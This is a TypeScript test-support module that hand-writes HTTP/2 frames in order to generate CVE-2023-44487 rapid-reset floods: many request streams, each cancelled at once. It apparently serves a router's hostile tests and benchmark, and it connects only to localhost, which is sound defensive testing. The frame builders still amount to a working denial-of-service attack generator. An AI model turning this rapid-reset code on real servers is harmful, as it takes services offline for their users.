/**
 * HTTP/2 written by hand, frame by frame, as an attacker writes it: no client library between the
 * attack and the wire to keep it polite. Node's own client will not open more streams than the
 * server's SETTINGS_MAX_CONCURRENT_STREAMS, and sends a stream cancelled before it had an id as an
 * ordinary request; a rapid-reset tool (CVE-2023-44487) does neither. Used by `npm run
 * bench:hostile` and by the hostile tests (test/support/hostile.ts).
 */
import { connect as tlsConnect, type TLSSocket } from 'node:tls';

/** One HTTP/2 frame (RFC 9113 §4.1): 24-bit length, type, flags, stream id, payload. */
export function h2Frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

export const H2_FRAME = { DATA: 0x0, HEADERS: 0x1, PRIORITY: 0x2, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7, WINDOW_UPDATE: 0x8, CONTINUATION: 0x9 } as const;
export const H2_FLAG = { END_STREAM: 0x1, END_HEADERS: 0x4 } as const;

/** A string's HPACK length prefix without Huffman: one byte, so under 127 bytes (longer would need HPACK's integer continuation). */
function shortLength(text: string): number {
  if (text.length >= 127) throw new RangeError(`raw-h2 writes strings under 127 bytes, not ${text.length}`);
  return text.length;
}

/** An HPACK literal without indexing, its name from the static table (index < 15), no Huffman (RFC 7541 §6.2.2); values under 127 bytes. */
export const hpackLiteral = (nameIndex: number, value: string): Buffer => Buffer.concat([Buffer.from([nameIndex, shortLength(value)]), Buffer.from(value, 'latin1')]);

/** An HPACK literal without indexing and with a new name; name and value under 127 bytes. */
export const hpackNewField = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.from([0x00, shortLength(name)]), Buffer.from(name, 'latin1'), Buffer.from([shortLength(value)]), Buffer.from(value, 'latin1')]);

/** A GET's header block without tables: :method GET (static 2), :scheme https (7), :path (4), :authority (1). */
export const hpackGet = (path: string, authority: string): Buffer => Buffer.concat([Buffer.from([0x82, 0x87]), hpackLiteral(0x04, path), hpackLiteral(0x01, authority)]);

const CANCEL = Buffer.from([0, 0, 0, 0x8]);

/** Each of `count` GET streams' HEADERS and its RST_STREAM (CANCEL), from stream id `firstStreamId` on (odd, rising); paths `${path}/${n}`. */
function cancelledStreams(firstStreamId: number, count: number, path: string, authority: string): { requests: Buffer[]; resets: Buffer[] } {
  const requests: Buffer[] = [];
  const resets: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = firstStreamId + 2 * i;
    requests.push(h2Frame(H2_FRAME.HEADERS, H2_FLAG.END_STREAM | H2_FLAG.END_HEADERS, id, hpackGet(`${path}/${i}`, authority)));
    resets.push(h2Frame(H2_FRAME.RST_STREAM, 0, id, CANCEL));
  }
  return { requests, resets };
}

/** The streams as one buffer, each stream's reset right after its request: one write carries both, as a rapid-reset tool sends them. */
export function rapidResetFrames(firstStreamId: number, count: number, path: string, authority: string): Buffer {
  const { requests, resets } = cancelledStreams(firstStreamId, count, path, authority);
  return Buffer.concat(requests.flatMap((request, i) => [request, resets[i]!]));
}

/** The same streams' requests alone, and their resets alone: for an attacker who writes the resets a moment after the requests. */
export function requestsThenResets(firstStreamId: number, count: number, path: string, authority: string): { requests: Buffer; resets: Buffer } {
  const { requests, resets } = cancelledStreams(firstStreamId, count, path, authority);
  return { requests: Buffer.concat(requests), resets: Buffer.concat(resets) };
}

export interface RawH2Connection {
  readonly socket: TLSSocket;
  /** The frames the router sent (only when reading; HEADERS blocks are not decoded). */
  readonly frames: Array<{ type: number; flags: number; streamId: number; payload: Buffer }>;
  /** RST_STREAM and GOAWAY error codes received, by stream (0 for GOAWAY). */
  resets(): Array<{ streamId: number; code: number }>;
  /** Writes `frames`, waiting for the socket to drain; false once the router closed it. */
  send(frames: Buffer): Promise<boolean>;
  /** True when the router closes the connection, false after `waitMs`. */
  closed(waitMs: number): Promise<boolean>;
}

/**
 * A TLS connection speaking HTTP/2 by hand: the preface and an empty SETTINGS are sent, then the
 * caller writes raw frames. Rejects when TLS does not complete (a refusal at connect).
 * It reads only when `reading` (an attacker that never reads lets the router's replies pile up).
 */
export async function openRawH2(port: number, options: { reading: boolean; servername: string; localAddress?: string }): Promise<RawH2Connection> {
  const socket = tlsConnect({ port, host: '127.0.0.1', servername: options.servername, rejectUnauthorized: false, ALPNProtocols: ['h2'], ...(options.localAddress ? { localAddress: options.localAddress } : {}) });
  socket.on('error', () => undefined);
  const closedAt = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  // Bounded here, not by the router's handshake timeout: every loop of the bench ends on its own.
  const giveUp = setTimeout(() => socket.destroy(new Error('TLS did not complete within 10 s')), 10_000);
  try {
    await new Promise<void>((resolve, reject) => {
      socket.once('secureConnect', () => resolve());
      socket.once('error', reject);
      socket.once('close', () => reject(new Error('closed before TLS completed')));
    });
  } finally {
    clearTimeout(giveUp);
  }
  const frames: RawH2Connection['frames'] = [];
  let pending = Buffer.alloc(0);
  if (options.reading) {
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        frames.push({ type: pending[3]!, flags: pending[4]!, streamId: pending.readUInt32BE(5) & 0x7fffffff, payload: pending.subarray(9, 9 + length) });
        pending = pending.subarray(9 + length);
      }
    });
  } else socket.pause();
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), h2Frame(H2_FRAME.SETTINGS, 0, 0)]));
  return {
    socket,
    frames,
    resets: () =>
      frames
        .filter((f) => f.type === H2_FRAME.RST_STREAM || f.type === H2_FRAME.GOAWAY)
        .map((f) => ({ streamId: f.type === H2_FRAME.GOAWAY ? 0 : f.streamId, code: f.type === H2_FRAME.GOAWAY ? f.payload.readUInt32BE(4) : f.payload.readUInt32BE(0) })),
    async send(data: Buffer): Promise<boolean> {
      if (socket.destroyed) return false;
      if (socket.write(data)) return true;
      await Promise.race([new Promise((r) => socket.once('drain', r)), closedAt]);
      return !socket.destroyed;
    },
    closed(waitMs: number): Promise<boolean> {
      return Promise.race([closedAt.then(() => true), new Promise<boolean>((r) => setTimeout(() => r(false), waitMs).unref())]);
    },
  };
}
